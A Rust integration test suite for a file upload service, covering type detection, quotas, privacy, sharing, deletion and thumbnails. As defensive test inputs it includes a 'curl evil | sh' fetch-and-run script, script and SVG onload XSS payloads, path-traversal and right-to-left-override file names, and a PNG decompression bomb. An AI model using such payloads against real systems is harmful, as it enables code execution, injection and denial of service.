//! Files end to end: uploads (raw and multipart) with names in Chinese, type detection by
//! content, refused programs and documents, the upload limit and the organization quota
//! (nothing stored when refused), privacy (everyone else gets 404), sharing, deletion and
//! hostile names, pictures' thumbnails — on SQLite and PostgreSQL.

use std::path::{Path, PathBuf};

use crate::common::external::S3Server;
use crate::common::{Backend, Client, TestServer, command, target_dir};
use base64::Engine as _;
use courtyard_host::Config;
use serde_json::{Value, json};
use sha2::{Digest, Sha256};
use tokio::io::{AsyncReadExt, AsyncWriteExt};

const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x06\0\0\0\x1f\x15\xc4\x89\0\0\0\rIDATx\x9cc\xf8\xcf\xc0\xf0\x1f\0\x05\0\x01\xff\x89\x99=\x1d\0\0\0\0IEND\xaeB`\x82";

fn elf() -> Vec<u8> {
    let mut v = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0".to_vec();
    v.resize(4096, 0);
    v
}

/// Bytes that are not text and match no known format.
fn noise(len: usize) -> Vec<u8> {
    let mut x: u32 = 0x9E37_79B9;
    (0..len)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 17;
            x ^= x << 5;
            (x >> 24) as u8 | 0x80
        })
        .collect()
}

fn sha256(bytes: &[u8]) -> String {
    Sha256::digest(bytes)
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// Uploads raw bytes, optionally with a name.
async fn upload(c: &Client, name: Option<&str>, body: Vec<u8>) -> (u16, Value) {
    let mut req = c
        .http
        .post(format!("{}/api/v1/files", c.base))
        .header("content-type", "application/octet-stream")
        .body(body);
    if let Some(n) = name {
        req = req.query(&[("name", n)]);
    }
    if let Some(t) = &c.token {
        req = req.bearer_auth(t);
    }
    let res = req.send().await.expect("upload");
    let status = res.status().as_u16();
    (status, res.json().await.unwrap_or(Value::Null))
}

/// Uploads as `multipart/form-data` with one `file` part, built by hand.
async fn upload_form(c: &Client, part_name: &str, file_name: &str, body: &[u8]) -> (u16, Value) {
    let boundary = "courtyard-test-boundary-7d3f";
    let mut form = format!(
        "--{boundary}\r\nContent-Disposition: form-data; name=\"{part_name}\"; filename=\"{file_name}\"\r\n\
         Content-Type: application/octet-stream\r\n\r\n"
    )
    .into_bytes();
    form.extend_from_slice(body);
    form.extend_from_slice(format!("\r\n--{boundary}--\r\n").as_bytes());
    let res = c
        .http
        .post(format!("{}/api/v1/files", c.base))
        .header(
            "content-type",
            format!("multipart/form-data; boundary={boundary}"),
        )
        .bearer_auth(c.token.as_deref().unwrap())
        .body(form)
        .send()
        .await
        .expect("upload");
    let status = res.status().as_u16();
    (status, res.json().await.unwrap_or(Value::Null))
}

async fn download(c: &Client, id: &str, if_none_match: Option<&str>) -> reqwest::Response {
    let mut req = c.http.get(format!("{}/api/v1/files/{id}", c.base));
    if let Some(t) = &c.token {
        req = req.bearer_auth(t);
    }
    if let Some(tag) = if_none_match {
        req = req.header("if-none-match", tag);
    }
    req.send().await.expect("download")
}

async fn thumbnail(c: &Client, id: &str, if_none_match: Option<&str>) -> reqwest::Response {
    let mut req = c
        .http
        .get(format!("{}/api/v1/files/{id}/thumbnail", c.base));
    if let Some(t) = &c.token {
        req = req.bearer_auth(t);
    }
    if let Some(tag) = if_none_match {
        req = req.header("if-none-match", tag);
    }
    req.send().await.expect("thumbnail")
}

/// An error answer's status and body.
async fn refusal(res: reqwest::Response) -> (u16, Value) {
    let status = res.status().as_u16();
    (status, res.json().await.unwrap_or(Value::Null))
}

/// A photo-like picture (gradients) encoded as JPEG.
fn jpeg(width: u32, height: u32) -> Vec<u8> {
    let photo = image::RgbImage::from_fn(width, height, |x, y| {
        image::Rgb([(x / 8) as u8, (y / 6) as u8, ((x + y) / 12) as u8])
    });
    let mut out = Vec::new();
    photo
        .write_with_encoder(image::codecs::jpeg::JpegEncoder::new_with_quality(
            &mut out, 85,
        ))
        .unwrap();
    out
}

/// A PNG with transparency.
fn translucent_png(width: u32, height: u32) -> Vec<u8> {
    let picture = image::RgbaImage::from_fn(width, height, |x, _| {
        image::Rgba([30, 140, 60, (x % 256) as u8])
    });
    let mut out = Vec::new();
    picture
        .write_with_encoder(image::codecs::png::PngEncoder::new(&mut out))
        .unwrap();
    out
}

/// A PNG of a few dozen bytes whose header declares `width`×`height` pixels (correct
/// checksums): a decompression bomb as far as its header goes.
fn declared_png(width: u32, height: u32) -> Vec<u8> {
    fn chunk(out: &mut Vec<u8>, kind: &[u8; 4], data: &[u8]) {
        out.extend_from_slice(&(data.len() as u32).to_be_bytes());
        let start = out.len();
        out.extend_from_slice(kind);
        out.extend_from_slice(data);
        let crc = crc32fast::hash(&out[start..]);
        out.extend_from_slice(&crc.to_be_bytes());
    }
    let mut out = b"\x89PNG\r\n\x1a\n".to_vec();
    let ihdr = [
        &width.to_be_bytes()[..],
        &height.to_be_bytes(),
        &[8, 6, 0, 0, 0],
    ]
    .concat();
    chunk(&mut out, b"IHDR", &ihdr);
    chunk(&mut out, b"IDAT", b"\x78\x9c\x03\x00\x00\x00\x00\x01");
    chunk(&mut out, b"IEND", b"");
    out
}

fn header<'a>(res: &'a reqwest::Response, name: &str) -> &'a str {
    res.headers()
        .get(name)
        .and_then(|v| v.to_str().ok())
        .unwrap_or("")
}

#[track_caller]
fn assert_refused(answer: &(u16, Value), status: u16, code: &str) {
    let (got, body) = answer;
    assert_eq!(*got, status, "expected {status} {code}: {body}");
    assert_eq!(body["code"], code, "{body}");
    assert!(
        body["message"].as_str().is_some_and(|m| !m.is_empty()),
        "{body}"
    );
    assert!(
        body["message_zh"].as_str().is_some_and(|m| !m.is_empty()),
        "no Chinese message: {body}"
    );
}

/// Where a test's server keeps files: its local directory, or a bucket of a moto S3 server.
#[derive(Clone, Copy, Debug)]
enum On {
    Local(Backend),
    S3(Backend),
}

/// The object store of a test server, seen from outside.
struct Objects {
    s3: Option<(S3Server, String)>,
}

/// Starts a server on `on`, with `configure` adjusting the rest of its configuration.
async fn start_with(
    on: On,
    configure: impl Fn(&mut Config) + Send + Sync + 'static,
) -> (TestServer, Objects) {
    match on {
        On::Local(backend) => (
            TestServer::start_with(backend, configure).await,
            Objects { s3: None },
        ),
        On::S3(backend) => {
            let s3 = S3Server::start().await;
            let bucket = s3.bucket("courtyard-files").await;
            let section = s3.config(&bucket);
            let server = TestServer::start_with(backend, move |c| {
                c.files.s3 = Some(section.clone());
                configure(c);
            })
            .await;
            (
                server,
                Objects {
                    s3: Some((s3, bucket)),
                },
            )
        }
    }
}

async fn start(on: On) -> (TestServer, Objects) {
    start_with(on, |_| {}).await
}

impl Objects {
    /// Every key in the store (objects and anything half-written), as `org/file`.
    async fn stored(&self, server: &TestServer) -> Vec<String> {
        if let Some((s3, bucket)) = &self.s3 {
            let mut keys = s3.keys(bucket).await;
            keys.sort();
            return keys;
        }
        fn walk(dir: &Path, out: &mut Vec<PathBuf>) {
            for entry in std::fs::read_dir(dir).into_iter().flatten().flatten() {
                let path = entry.path();
                if path.is_dir() {
                    walk(&path, out);
                } else {
                    out.push(path);
                }
            }
        }
        let config = &server.app.config;
        let dir = config.files.local_dir(&config.data_dir);
        let mut found = Vec::new();
        walk(&dir, &mut found);
        let mut keys: Vec<String> = found
            .iter()
            .map(|p| {
                let relative = p.strip_prefix(&dir).expect("under the directory");
                let parts: Vec<_> = relative.iter().map(|c| c.to_string_lossy()).collect();
                parts.join("/")
            })
            .collect();
        keys.sort();
        keys
    }
}

async fn round_trip(on: On) {
    let (server, _objects) = start(on).await;
    let org = server.org("Files Co").await;
    let (_, alice) = server.person(&org, "Alice", "member").await;

    let text = "差旅报销单已提交。\nTravel expenses submitted.\n"
        .as_bytes()
        .to_vec();
    let (status, file) = upload(&alice, Some("报销单 2024.txt"), text.clone()).await;
    assert_eq!(status, 201, "{file}");
    let id = file["id"].as_str().unwrap().to_owned();
    assert_eq!(file["name"], "报销单 2024.txt");
    assert_eq!(file["content_type"], "text/plain");
    assert_eq!(file["size"], text.len());
    assert_eq!(file["sha256"], sha256(&text));
    assert!(file["created_at"].as_i64().unwrap() > 0);
    let keys: Vec<&String> = file.as_object().unwrap().keys().collect();
    assert_eq!(
        keys.len(),
        6,
        "exactly id, name, content_type, size, sha256, created_at: {file}"
    );

    let res = download(&alice, &id, None).await;
    assert_eq!(res.status(), 200);
    assert_eq!(header(&res, "content-type"), "text/plain; charset=utf-8");
    assert_eq!(
        header(&res, "content-disposition"),
        "inline; filename=\"___ 2024.txt\"; filename*=UTF-8''%E6%8A%A5%E9%94%80%E5%8D%95%202024.txt"
    );
    assert_eq!(header(&res, "x-content-type-options"), "nosniff");
    assert!(header(&res, "content-security-policy").starts_with("sandbox"));
    let etag = format!("\"{}\"", sha256(&text));
    assert_eq!(header(&res, "etag"), etag);
    assert_eq!(res.bytes().await.unwrap().as_ref(), text.as_slice());

    // The ETag revalidates.
    let res = download(&alice, &id, Some(&etag)).await;
    assert_eq!(res.status(), 304);
    assert!(res.bytes().await.unwrap().is_empty());
    assert_eq!(download(&alice, &id, Some("\"other\"")).await.status(), 200);

    let (status, info) = alice.get(&format!("/api/v1/files/{id}/info")).await;
    assert_eq!(status, 200);
    assert_eq!(info, file);

    // A multipart form with one `file` part works too; its file name is used.
    let (status, form_file) = upload_form(&alice, "file", "照片.png", PNG).await;
    assert_eq!(status, 201, "{form_file}");
    assert_eq!(form_file["name"], "照片.png");
    assert_eq!(form_file["content_type"], "image/png");
    assert_eq!(form_file["size"], PNG.len());
    let res = download(&alice, form_file["id"].as_str().unwrap(), None).await;
    assert_eq!(res.bytes().await.unwrap().as_ref(), PNG);
    assert_refused(
        &upload_form(&alice, "attachment", "x.png", PNG).await,
        400,
        "invalid_body",
    );
    // Uploads are not bound by the API's small request limit, in either form.
    let big = noise(300 << 10);
    let (status, big_form) = upload_form(&alice, "file", "big.bin", &big).await;
    assert_eq!(status, 201, "{big_form}");
    assert_eq!(big_form["sha256"], sha256(&big));
    let (status, big_raw) = upload(&alice, Some("big.bin"), big.clone()).await;
    assert_eq!(status, 201, "{big_raw}");
    assert_eq!(big_raw["size"], big.len());

    // Signed in only.
    let anon = server.client();
    assert_eq!(upload(&anon, Some("x.txt"), b"hi".to_vec()).await.0, 401);
    assert_eq!(download(&anon, &id, None).await.status(), 401);

    // Files survive a restart.
    let server = server.restart().await;
    let alice = Client {
        base: server.base.clone(),
        ..alice
    };
    let res = download(&alice, &id, None).await;
    assert_eq!(res.status(), 200);
    assert_eq!(res.bytes().await.unwrap().as_ref(), text.as_slice());
}

async fn type_by_content(on: On) {
    let (server, objects) = start(on).await;
    let org = server.org("Types Co").await;
    let (_, alice) = server.person(&org, "Alice", "member").await;

    // A picture named .txt is a picture, shown in place.
    let (status, png) = upload(&alice, Some("notes.txt"), PNG.to_vec()).await;
    assert_eq!(status, 201, "{png}");
    assert_eq!(png["content_type"], "image/png");
    let res = download(&alice, png["id"].as_str().unwrap(), None).await;
    assert_eq!(header(&res, "content-type"), "image/png");
    assert!(header(&res, "content-disposition").starts_with("inline;"));

    // Unknown binary content is downloaded, never shown, whatever its name.
    let (status, bin) = upload(&alice, Some("page.html"), noise(3000)).await;
    assert_eq!(status, 201, "{bin}");
    assert_eq!(bin["content_type"], "application/octet-stream");
    let res = download(&alice, bin["id"].as_str().unwrap(), None).await;
    assert_eq!(header(&res, "content-type"), "application/octet-stream");
    assert_eq!(
        header(&res, "content-disposition"),
        "attachment; filename=\"page.html\""
    );

    // Text that turns out not to be text after the first bytes is not text.
    let mut late = b"plain words ".repeat(1000);
    late.extend_from_slice(b"\0\x01\x02");
    let (status, late) = upload(&alice, Some("log.txt"), late).await;
    assert_eq!(status, 201);
    assert_eq!(late["content_type"], "application/octet-stream");

    let before = objects.stored(&server).await;
    // Programs, scripts and active documents are refused, and nothing is stored.
    for (name, body) in [
        ("manual.pdf", elf()),
        ("setup.pdf", {
            let mut pe = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0".to_vec();
            pe.resize(2048, 0);
            pe
        }),
        ("notes.txt", b"#!/bin/sh\ncurl evil | sh\n".to_vec()),
        (
            "page.txt",
            b"<!DOCTYPE html><script>alert(1)</script>".to_vec(),
        ),
        (
            "logo.png",
            b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".to_vec(),
        ),
    ] {
        let answer = upload(&alice, Some(name), body).await;
        assert_refused(&answer, 415, "unsupported_file_type");
    }
    assert_eq!(
        objects.stored(&server).await,
        before,
        "a refused upload leaves nothing behind"
    );
}

/// Sends a chunked upload over a raw socket (no Content-Length): the limit must hold
/// while streaming. Returns the status and the body.
async fn chunked_upload(
    server: &TestServer,
    token: &str,
    chunks: usize,
    chunk: &[u8],
) -> (u16, Value) {
    let mut stream = tokio::net::TcpStream::connect(server.addr).await.unwrap();
    let head = format!(
        "POST /api/v1/files?name=big.bin HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {token}\r\n\
         Content-Type: application/octet-stream\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n",
        server.addr
    );
    stream.write_all(head.as_bytes()).await.unwrap();
    for _ in 0..chunks {
        let frame = [format!("{:x}\r\n", chunk.len()).as_bytes(), chunk, b"\r\n"].concat();
        // The server may answer (and stop reading) before everything is sent.
        if stream.write_all(&frame).await.is_err() {
            break;
        }
    }
    let _ = stream.write_all(b"0\r\n\r\n").await;
    let mut answer = Vec::new();
    let _ = stream.read_to_end(&mut answer).await;
    let text = String::from_utf8_lossy(&answer).into_owned();
    let status = text
        .split_whitespace()
        .nth(1)
        .and_then(|s| s.parse().ok())
        .unwrap_or(0);
    let body = text
        .find('{')
        .and_then(|start| {
            serde_json::from_str(text[start..].trim_end_matches(['\r', '\n', '0'])).ok()
        })
        .unwrap_or(Value::Null);
    (status, body)
}

async fn limits_and_quota(on: On) {
    let (server, objects) = start_with(on, |c| {
        c.files.max_upload_bytes = 64 << 10;
        c.files.org_quota_bytes = 100 << 10;
    })
    .await;
    let org = server.org("Quota Co").await;
    let other_org = server.org("Other Co").await;
    let (_, alice) = server.person(&org, "Alice", "member").await;
    let (_, bob) = server.person(&org, "Bob", "member").await;
    let (_, carol) = server.person(&other_org, "Carol", "member").await;

    // Over the limit, declared: refused before reading.
    let answer = upload(&alice, Some("big.bin"), noise((64 << 10) + 1)).await;
    assert_refused(&answer, 413, "file_too_large");
    assert!(
        answer.1["message"].as_str().unwrap().contains("64 KiB"),
        "{}",
        answer.1
    );
    // Over the limit, streamed without a length: refused while streaming.
    let (status, body) =
        chunked_upload(&server, alice.token.as_deref().unwrap(), 9, &noise(8 << 10)).await;
    assert_eq!(status, 413, "{body}");
    assert_eq!(body["code"], "file_too_large", "{body}");
    // Empty.
    assert_refused(
        &upload(&alice, Some("empty.txt"), Vec::new()).await,
        400,
        "empty_file",
    );
    assert!(
        objects.stored(&server).await.is_empty(),
        "nothing stored: {:?}",
        objects.stored(&server).await
    );

    // Exactly the limit is fine; a chunked upload under the limit too.
    let (status, first) = upload(&alice, Some("a.bin"), noise(64 << 10)).await;
    assert_eq!(status, 201, "{first}");
    let (status, second) =
        chunked_upload(&server, bob.token.as_deref().unwrap(), 4, &noise(4 << 10)).await;
    assert_eq!(status, 201, "{second}");
    assert_eq!(second["size"], 16 << 10);
    assert_eq!(objects.stored(&server).await.len(), 2);

    // 80 KiB of 100 KiB used: another 30 KiB is over the organization's quota, whoever
    // uploads it; another organization has its own.
    let answer = upload(&bob, Some("c.bin"), noise(30 << 10)).await;
    assert_refused(&answer, 413, "quota_exceeded");
    let answer = upload(&alice, Some("c.bin"), noise(20 << 10)).await;
    assert_eq!(answer.0, 201, "{}", answer.1);
    assert_refused(
        &upload(&alice, Some("d.bin"), noise(1)).await,
        413,
        "quota_exceeded",
    );
    assert_eq!(objects.stored(&server).await.len(), 3);
    let (status, _) = upload(&carol, Some("c.bin"), noise(30 << 10)).await;
    assert_eq!(status, 201);

    // Deleting frees the quota.
    let (status, _) = alice
        .delete(&format!("/api/v1/files/{}", first["id"].as_str().unwrap()))
        .await;
    assert_eq!(status, 204);
    let (status, _) = upload(&bob, Some("c.bin"), noise(30 << 10)).await;
    assert_eq!(status, 201);
}

async fn privacy_and_sharing(on: On) {
    let (server, _objects) = start(on).await;
    let org = server.org("Private Co").await;
    let other_org = server.org("Elsewhere").await;
    let (_, alice) = server.person(&org, "Alice", "member").await;
    let (bob_id, bob) = server.person(&org, "Bob", "member").await;
    let (_, admin) = server.person(&org, "Admin", "org_admin").await;
    let (carol_id, carol) = server.person(&other_org, "Carol", "member").await;

    let (status, file) = upload(&alice, Some("salary.txt"), b"confidential".to_vec()).await;
    assert_eq!(status, 201);
    let id = file["id"].as_str().unwrap().to_owned();
    let info = format!("/api/v1/files/{id}/info");

    // Nobody else may know it exists: not a colleague, not an organization admin, not the
    // platform admin, not another organization.
    for who in [&bob, &admin, &server.admin, &carol] {
        assert_refused(&who.get(&info).await, 404, "not_found");
        assert_eq!(download(who, &id, None).await.status(), 404);
    }
    for who in [&bob, &carol] {
        assert_refused(
            &who.delete(&format!("/api/v1/files/{id}")).await,
            404,
            "not_found",
        );
    }
    // Malformed and unknown ids look the same.
    assert_eq!(alice.get("/api/v1/files/not-an-id/info").await.0, 404);
    assert_eq!(
        alice
            .get("/api/v1/files/0190a0a0-0000-7000-8000-000000000000/info")
            .await
            .0,
        404
    );

    // Sharing: the uploader shares with someone they can see.
    let grants = format!("/api/v1/files/{id}/grants");
    assert_refused(
        &alice.post(&grants, json!({"people": [carol_id]})).await,
        422,
        "invalid_reference",
    );
    let (status, _) = alice.post(&grants, json!({"people": [bob_id]})).await;
    assert_eq!(status, 204);
    let (status, _) = alice.post(&grants, json!({"people": [bob_id]})).await;
    assert_eq!(status, 204, "sharing twice is harmless");
    let (status, seen) = bob.get(&info).await;
    assert_eq!(status, 200);
    assert_eq!(seen, file);
    let res = download(&bob, &id, None).await;
    assert_eq!(res.status(), 200);
    assert_eq!(res.bytes().await.unwrap().as_ref(), b"confidential");
    // Bob may read it, but neither re-share nor delete it.
    assert_refused(
        &bob.post(&grants, json!({"people": [bob_id]})).await,
        403,
        "forbidden",
    );
    assert_refused(
        &bob.delete(&format!("/api/v1/files/{id}")).await,
        403,
        "forbidden",
    );
    // Still private to everyone else.
    assert_eq!(admin.get(&info).await.0, 404);
    assert_eq!(carol.get(&info).await.0, 404);
}

async fn deletion(on: On) {
    let (server, objects) = start(on).await;
    let org = server.org("Delete Co").await;
    let other_org = server.org("Other").await;
    let (_, alice) = server.person(&org, "Alice", "member").await;
    let (bob_id, _) = server.person(&org, "Bob", "member").await;
    let (_, admin) = server.person(&org, "Admin", "org_admin").await;
    let (_, foreign_admin) = server.person(&other_org, "Foreign", "org_admin").await;

    let (_, first) = upload(&alice, Some("one.txt"), b"one".to_vec()).await;
    let (_, second) = upload(&alice, Some("two.txt"), b"two".to_vec()).await;
    let (first, second) = (
        first["id"].as_str().unwrap().to_owned(),
        second["id"].as_str().unwrap().to_owned(),
    );
    let (status, _) = alice
        .post(
            &format!("/api/v1/files/{first}/grants"),
            json!({"people": [bob_id]}),
        )
        .await;
    assert_eq!(status, 204);
    assert_eq!(objects.stored(&server).await.len(), 2);

    // The uploader deletes: row, grants and bytes go.
    let (status, body) = alice.delete(&format!("/api/v1/files/{first}")).await;
    assert_eq!(status, 204, "{body}");
    assert_eq!(
        alice.get(&format!("/api/v1/files/{first}/info")).await.0,
        404
    );
    assert_eq!(download(&alice, &first, None).await.status(), 404);
    assert_eq!(alice.delete(&format!("/api/v1/files/{first}")).await.0, 404);
    assert_eq!(objects.stored(&server).await.len(), 1);

    // An admin of another organization cannot; the organization's admin can.
    assert_eq!(
        foreign_admin
            .delete(&format!("/api/v1/files/{second}"))
            .await
            .0,
        404
    );
    let (status, body) = admin.delete(&format!("/api/v1/files/{second}")).await;
    assert_eq!(status, 204, "{body}");
    assert_eq!(
        alice.get(&format!("/api/v1/files/{second}/info")).await.0,
        404
    );
    assert!(objects.stored(&server).await.is_empty());
}

async fn hostile_names(on: On) {
    let (server, objects) = start(on).await;
    let org = server.org("Names Co").await;
    let (_, alice) = server.person(&org, "Alice", "member").await;

    let long = format!("{}.txt", "很长的名字".repeat(100));
    let cases: Vec<(Option<&str>, String)> = vec![
        (Some("../../etc/passwd"), "passwd".into()),
        (
            Some("..\\..\\windows\\system32\\evil.txt"),
            "evil.txt".into(),
        ),
        (Some("a\u{1}b\r\nc\u{7f}.txt"), "abc.txt".into()),
        (Some("invoice\u{202E}txt.exe"), "invoicetxt.exe".into()),
        (
            Some("quote\"and;semicolon.txt"),
            "quote\"and;semicolon.txt".into(),
        ),
        (Some(".."), "file".into()),
        (None, "file".into()),
        (
            Some(long.as_str()),
            format!(
                "{}.txt",
                "很长的名字"
                    .repeat(100)
                    .chars()
                    .take(196)
                    .collect::<String>()
            ),
        ),
    ];
    for (name, expected) in cases {
        let (status, file) = upload(&alice, name, b"some text".to_vec()).await;
        assert_eq!(status, 201, "{name:?}: {file}");
        assert_eq!(file["name"], expected.as_str(), "{name:?}");
        assert!(file["name"].as_str().unwrap().chars().count() <= 200);
        let res = download(&alice, file["id"].as_str().unwrap(), None).await;
        assert_eq!(res.status(), 200);
        let disposition = header(&res, "content-disposition");
        assert!(
            !disposition.contains('/') && !disposition.contains('\\'),
            "{disposition}"
        );
    }
    // However it was named, every object is stored under the server's own key.
    for key in objects.stored(&server).await {
        let parts: Vec<_> = key.split('/').collect();
        assert_eq!(parts.len(), 2, "{key:?}");
        assert_eq!(parts[0], org);
        assert!(uuid::Uuid::parse_str(parts[1]).is_ok(), "{key:?}");
    }
}

/// Pictures have thumbnails, made once and kept beside the file, under the download's rules;
/// other files and undecodable pictures have none; deleting the file removes both objects.
async fn thumbnails(on: On) {
    let (server, objects) = start(on).await;
    let org = server.org("Pictures Co").await;
    let (_, alice) = server.person(&org, "Alice", "member").await;
    let (bob_id, bob) = server.person(&org, "Bob", "member").await;
    let (_, carol) = server.person(&org, "Carol", "member").await;

    let photo = jpeg(1600, 1200);
    let (status, file) = upload(&alice, Some("现场照片.jpg"), photo.clone()).await;
    assert_eq!(status, 201, "{file}");
    assert_eq!(file["content_type"], "image/jpeg");
    let id = file["id"].as_str().unwrap().to_owned();
    let thumb_key = format!("{org}/{id}.thumb");
    assert!(!objects.stored(&server).await.contains(&thumb_key));

    // Made on the first request: a JPEG fitting 320×320, sandboxed like a download.
    let res = thumbnail(&alice, &id, None).await;
    assert_eq!(res.status(), 200);
    assert_eq!(header(&res, "content-type"), "image/jpeg");
    assert_eq!(header(&res, "x-content-type-options"), "nosniff");
    assert!(header(&res, "content-security-policy").starts_with("sandbox"));
    assert_eq!(header(&res, "cache-control"), "private, max-age=86400");
    assert!(header(&res, "content-disposition").starts_with("inline"));
    let etag = format!("\"{}-thumb\"", sha256(&photo));
    assert_eq!(header(&res, "etag"), etag);
    let first = res.bytes().await.unwrap();
    let small = image::load_from_memory_with_format(&first, image::ImageFormat::Jpeg).unwrap();
    assert_eq!((small.width(), small.height()), (320, 240));
    assert!(first.len() < photo.len() / 4, "{} bytes", first.len());

    // Kept beside the file, and served from there.
    let stored = objects.stored(&server).await;
    assert_eq!(stored, vec![format!("{org}/{id}"), thumb_key.clone()]);
    let res = thumbnail(&alice, &id, None).await;
    assert_eq!(res.status(), 200);
    assert_eq!(res.bytes().await.unwrap(), first);
    assert_eq!(objects.stored(&server).await, stored);
    // The ETag revalidates; the download's does not stand for the thumbnail.
    let res = thumbnail(&alice, &id, Some(&etag)).await;
    assert_eq!(res.status(), 304);
    assert!(res.bytes().await.unwrap().is_empty());
    let download_tag = format!("\"{}\"", sha256(&photo));
    assert_eq!(
        thumbnail(&alice, &id, Some(&download_tag)).await.status(),
        200
    );

    // The download's rules: anyone else gets 404 until it is shared, strangers always,
    // and signing in comes first.
    assert_refused(
        &refusal(thumbnail(&bob, &id, None).await).await,
        404,
        "not_found",
    );
    assert_eq!(thumbnail(&bob, &id, Some(&etag)).await.status(), 404);
    let (status, _) = alice
        .post(
            &format!("/api/v1/files/{id}/grants"),
            json!({"people": [bob_id]}),
        )
        .await;
    assert_eq!(status, 204);
    let res = thumbnail(&bob, &id, None).await;
    assert_eq!(res.status(), 200);
    assert_eq!(res.bytes().await.unwrap(), first);
    assert_eq!(thumbnail(&carol, &id, None).await.status(), 404);
    assert_eq!(thumbnail(&server.client(), &id, None).await.status(), 401);
    assert_eq!(
        thumbnail(&alice, "0190a0a0-0000-7000-8000-000000000000", None)
            .await
            .status(),
        404
    );

    // Transparency stays: a PNG.
    let (_, png) = upload(&alice, Some("logo.png"), translucent_png(900, 300)).await;
    let png = png["id"].as_str().unwrap().to_owned();
    let res = thumbnail(&alice, &png, None).await;
    assert_eq!(res.status(), 200);
    assert_eq!(header(&res, "content-type"), "image/png");
    let small =
        image::load_from_memory_with_format(&res.bytes().await.unwrap(), image::ImageFormat::Png)
            .unwrap();
    assert_eq!((small.width(), small.height()), (320, 107));
    assert!(small.color().has_alpha());
    // A picture smaller than the box keeps its size.
    let (_, tiny) = upload(&alice, Some("dot.png"), PNG.to_vec()).await;
    let tiny = tiny["id"].as_str().unwrap().to_owned();
    let res = thumbnail(&alice, &tiny, None).await;
    assert_eq!(res.status(), 200);
    let small = image::load_from_memory(&res.bytes().await.unwrap()).unwrap();
    assert_eq!((small.width(), small.height()), (1, 1));

    // Not a picture: none, and nothing kept.
    let (_, text) = upload(&alice, Some("notes.txt"), b"just words".to_vec()).await;
    let text = text["id"].as_str().unwrap().to_owned();
    assert_refused(
        &refusal(thumbnail(&alice, &text, None).await).await,
        422,
        "no_thumbnail",
    );

    // A bomb: a few dozen bytes declaring 100 000 × 100 000 pixels. It is a PNG as far as
    // uploads go, it has no thumbnail, and the server goes on answering.
    let bomb = declared_png(100_000, 100_000);
    let (status, bomb) = upload(&alice, Some("bomb.png"), bomb).await;
    assert_eq!(status, 201, "{bomb}");
    assert_eq!(bomb["content_type"], "image/png");
    let bomb = bomb["id"].as_str().unwrap().to_owned();
    for _ in 0..3 {
        assert_refused(
            &refusal(thumbnail(&alice, &bomb, None).await).await,
            422,
            "no_thumbnail",
        );
    }
    let res = thumbnail(&alice, &id, None).await;
    assert_eq!(res.status(), 200);
    assert_eq!(res.bytes().await.unwrap(), first);
    let kept: Vec<String> = objects
        .stored(&server)
        .await
        .into_iter()
        .filter(|k| k.ends_with(".thumb"))
        .collect();
    let mut expected = vec![
        format!("{org}/{id}.thumb"),
        format!("{org}/{png}.thumb"),
        format!("{org}/{tiny}.thumb"),
    ];
    expected.sort();
    assert_eq!(
        kept, expected,
        "only pictures that have one keep a thumbnail"
    );

    // Deleting a file removes its thumbnail too.
    for file in [&id, &png, &tiny, &text, &bomb] {
        let (status, body) = alice.delete(&format!("/api/v1/files/{file}")).await;
        assert_eq!(status, 204, "{body}");
    }
    assert_eq!(thumbnail(&alice, &id, None).await.status(), 404);
    assert!(
        objects.stored(&server).await.is_empty(),
        "{:?}",
        objects.stored(&server).await
    );
}

/// Installs the `probe` test plugin in an organization and enables it in a group.
async fn install_probe(admin: &Client, member: &Client, org: &str, group: &str) {
    let wasm_path = target_dir().join("wasm32-wasip2/release/courtyard_plugin_probe.wasm");
    let wasm = std::fs::read(&wasm_path).unwrap_or_else(|e| {
        panic!(
            "{} is missing ({e}): build the plugins first with `cargo xtask build-plugins`",
            wasm_path.display()
        )
    });
    let manifest = std::fs::read_to_string(
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("plugins/probe/courtyard.toml"),
    )
    .unwrap();
    let package = json!({"allow_untrusted": true, "package": {"manifest": manifest,
        "wasm_base64": base64::engine::general_purpose::STANDARD.encode(wasm)}});
    let (status, inst) = admin
        .post(&format!("/api/v1/orgs/{org}/plugins"), package)
        .await;
    assert_eq!(status, 201, "{inst}");
    let (status, e) = member
        .request(
            reqwest::Method::PUT,
            &format!("/api/v1/groups/{group}/plugins/probe"),
            Some(json!({})),
        )
        .await;
    assert_eq!(status, 200, "{e}");
}

/// Plugins read files of their organization and share them (`files.get`, `files.share`);
/// a form's file field takes only files the submitter uploaded or was given.
async fn plugins_and_forms(on: On) {
    let (server, _objects) = start(on).await;
    let org = server.org("Plugin Files Co").await;
    let other_org = server.org("Elsewhere").await;
    let (_, admin) = server.person(&org, "Org Admin", "org_admin").await;
    let (alice_id, alice) = server.person(&org, "韩梅梅", "member").await;
    let (bob_id, bob) = server.person(&org, "Li Lei", "member").await;
    let (_, carol) = server.person(&other_org, "Carol", "member").await;
    let (status, g) = alice
        .post("/api/v1/groups", json!({"kind": "team", "name": "Finance"}))
        .await;
    assert_eq!(status, 201, "{g}");
    let group = g["id"].as_str().unwrap().to_owned();
    let (status, m) = alice
        .post(
            &format!("/api/v1/groups/{group}/members"),
            json!({"person_id": bob_id}),
        )
        .await;
    assert_eq!(status, 200, "{m}");
    let (status, dept) = server
        .admin
        .post(
            "/api/v1/groups",
            json!({"kind": "department", "name": "财务部", "org_id": org}),
        )
        .await;
    assert_eq!(status, 201, "{dept}");
    let dept = dept["id"].as_str().unwrap().to_owned();
    install_probe(&admin, &alice, &org, &group).await;

    let (_, receipt) = upload(&alice, Some("发票.png"), PNG.to_vec()).await;
    let receipt = receipt["id"].as_str().unwrap().to_owned();
    let (_, foreign) = upload(&carol, Some("other.txt"), b"theirs".to_vec()).await;
    let foreign = foreign["id"].as_str().unwrap().to_owned();

    // The plugin reads a file of its organization, and only those.
    let (status, reply) = command(&alice, &group, &format!("/file {receipt}")).await;
    assert_eq!(status, 200, "{reply}");
    assert_eq!(
        reply["ephemeral"],
        format!(
            "file 发票.png image/png {} bytes by {alice_id} shared with 0",
            PNG.len()
        )
    );
